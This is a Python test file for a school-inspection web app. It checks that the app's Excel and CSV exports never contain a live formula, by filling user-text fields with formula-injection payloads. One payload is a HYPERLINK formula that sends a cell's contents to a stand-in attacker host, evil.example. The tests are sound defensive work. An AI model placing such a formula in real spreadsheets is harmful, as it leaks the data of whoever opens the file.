"""Every export route, with a formula payload in every user-text column: nothing is ever a live formula.

XLSX: every text cell is a string cell, and one that starts like a formula carries Excel's quote prefix.
CSV: no field starts with ``= + - @``, tab or CR (each such text gets a leading apostrophe).
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from webapp.auth.models import User
from webapp.bureau.rectification.models import RectificationTask
from webapp.bureau.review.models import Review
from webapp.core.models import School
from webapp.extensions import db
from webapp.lessons.models import Activity
from webapp.spreadsheets import FORMULA_START, Column, Sheet, csv_bytes, workbook
from webapp.visits.models import ItemResult, Visit

from . import lessons_world
from .bureau_support import ALARM, alarm_photo, make_world, record_visit
from .conftest import login

#: One payload per leading character OWASP lists, the first the report's exfiltration example.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&C2,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def payload(n: int) -> str:
    """The n-th payload (cycling), tagged so each column's value is recognisable."""
    return PAYLOADS[n % len(PAYLOADS)] + f"#{n}"


def poison(columns: dict[tuple[type, str], str]) -> None:
    """Give every row of each (model, column) a payload (distinct per row, for unique columns)."""
    for n, (model, column) in enumerate(columns):
        for i, row in enumerate(db.session.query(model)):
            setattr(row, column, f"{payload(n)}{i}"[:30])
    db.session.commit()


def _check_xlsx(data: bytes) -> dict[str, set[str]]:
    """Assert no formula in the workbook; return the payload-bearing values by column header."""
    sheet = load_workbook(io.BytesIO(data)).active
    found: dict[str, set[str]] = {}
    header: tuple = ()
    for row in sheet.iter_rows():
        values = tuple(c.value for c in row)
        if not header and len([v for v in values if v]) > 2:
            header = values
            continue
        for cell, title in zip(row, header or values, strict=False):
            assert cell.data_type != "f", (title, cell.value)
            # (XML reads a stored CR back as LF.)
            if isinstance(cell.value, str) and cell.value.startswith((*FORMULA_START, "\n")):
                assert cell.data_type == "s" and cell.quotePrefix, (title, cell.value)
                found.setdefault(title, set()).add(cell.value)
    return found


def _check_csv(data: bytes) -> dict[str, set[str]]:
    """Assert no CSV field starts like a formula; return the neutralised values by column header."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    found: dict[str, set[str]] = {}
    for row in rows[1:]:
        for title, value in zip(rows[0], row, strict=True):
            assert not value.startswith(FORMULA_START), (title, value)
            if value.startswith("'") and value[1:].startswith(FORMULA_START):
                found.setdefault(title, set()).add(value[1:])
    return found


def test_the_writer_keeps_numbers_and_dates_typed_and_text_as_text():
    from datetime import date

    columns = [Column("a"), Column("b"), Column("c", kind="date"), Column("d")]
    sheet = Sheet("t", columns, [["=1+1", 5, date(2026, 1, 2), -3]])
    book = load_workbook(io.BytesIO(workbook([sheet]))).active
    assert book["A2"].value == "=1+1" and book["A2"].data_type == "s" and book["A2"].quotePrefix
    assert book["B2"].value == 5 and book["B2"].data_type == "n" and not book["B2"].quotePrefix
    assert book["C2"].is_date and book["D2"].value == -3
    text = csv_bytes(Sheet("t", sheet.columns, [["=1+1", 5, date(2026, 1, 2), -3]])).decode("utf-8-sig")
    assert text.splitlines()[1] == "'=1+1,5,2026-01-02,-3"


def _bureau_world(app, factory):
    world = make_world(factory)
    phone = world.client(app, "inspector")
    bureau = world.client(app, "reviewer")
    visit_id, _, _ = record_visit(phone, world.school, {ALARM: {"answer": "no"}}, {ALARM: alarm_photo()})
    assert bureau.post(f"/bureau/visits/{visit_id}/review", data={"decision": "accept"}).status_code in (200, 302)
    task = db.session.query(RectificationTask).one()
    assert bureau.post(f"/rectification/{task.id}/progress", data={"note": "已整改"}).status_code in (200, 302)
    return world, bureau, visit_id


def test_bureau_exports_never_hold_a_formula(app, factory):
    world, bureau, visit_id = _bureau_world(app, factory)
    columns = {
        (School, "name"): "学校",
        (School, "code"): "学校代码",
        (User, "display_name"): "责任督学",
        (Visit, "summary"): "督导小结",
        (Review, "comment"): "审核意见",
        (ItemResult, "observation"): "现场记录",
        (RectificationTask, "problem"): "存在问题",
        (RectificationTask, "responsible_person"): "责任人",
        (RectificationTask, "item_title"): "检查项",
    }
    poison(columns)
    term = f"?term={world.term.id}"
    found: dict[str, set[str]] = {}
    for url in ("visits.xlsx", "results.xlsx" + term, "tasks.xlsx", "schools.xlsx" + term):
        response = bureau.get("/bureau/exports/" + url)
        assert response.status_code == 200, url
        for title, seen in _check_xlsx(response.data).items():
            found.setdefault(title, set()).update(seen)
    # Each user-text column came out, neutralised, in some export.
    assert set(columns.values()) <= set(found), set(columns.values()) - set(found)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_lesson_exports_never_hold_a_formula(client, factory, fmt):
    world = lessons_world.make_world(factory)
    login(client, world.researcher)
    body = lessons_world.lesson(world.rural, world.today - timedelta(days=1))
    assert client.put(f"/api/v1/activities/{uuid.uuid4()}", json=body).status_code in (200, 201)
    client.post("/logout")
    text_columns = {
        (School, "name"): "学校",
        (School, "code"): "学校代码",
        (School, "group_name"): "教育集团",
        (User, "display_name"): "教研员",
        (Activity, "class_name"): "班级",
        (Activity, "teacher_name"): "授课教师",
        (Activity, "topic"): "课题/主题",
        (Activity, "strengths"): "优点",
        (Activity, "suggestions"): "建议",
        (Activity, "notes"): "备注",
    }
    poison(text_columns)
    login(client, world.reviewer)
    check = _check_xlsx if fmt == "xlsx" else _check_csv
    ledger = client.get(f"/lessons/bureau/export/ledger.{fmt}")
    assert ledger.status_code == 200
    found = check(ledger.data)
    assert set(text_columns.values()) <= set(found), set(text_columns.values()) - set(found)
    summary = client.get(f"/lessons/bureau/export/summary.{fmt}")
    assert "教研员" in check(summary.data)
